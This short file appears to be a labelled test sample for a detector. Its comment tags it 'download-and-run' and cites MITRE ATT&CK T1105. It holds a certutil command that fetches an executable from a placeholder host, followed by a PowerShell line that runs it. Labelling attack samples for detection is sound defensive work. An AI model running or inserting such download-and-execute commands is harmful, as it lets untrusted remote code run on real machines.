# expect: download-and-run | source: MITRE ATT&CK T1105
certutil -urlcache -split -f http://files.example.invalid/a.exe $env:TEMP\a.exe
& $env:TEMP\a.exe
